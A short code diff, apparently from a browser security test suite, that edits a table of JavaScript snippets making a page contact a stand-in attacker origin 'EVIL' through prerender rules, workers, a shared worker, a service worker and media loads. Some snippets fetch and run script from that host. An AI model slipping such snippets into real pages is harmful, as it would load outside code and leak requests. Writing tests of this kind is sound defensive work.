@@ -47,7 +47,8 @@ _REQUESTS = {
     "urls: [EVIL + '/guess']}], prerender: [{source: 'list', urls: [EVIL + '/guess']}]}); "
     "document.head.append(s)",
     "a worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${EVIL}/worker')`])))",
-    "a shared worker": "new SharedWorker(EVIL + '/shared')",
+    "a shared worker": "if (window.SharedWorker) { got('a worker that pages share'); "
+    "new SharedWorker(EVIL + '/shared') }",
     "a service worker": "await navigator.serviceWorker.register(EVIL + '/service')",
     "a sound and a film": "for (const kind of ['audio', 'video']) { const m = "
     "document.createElement(kind); m.src = EVIL + '/' + kind; document.body.append(m); m.load() }",
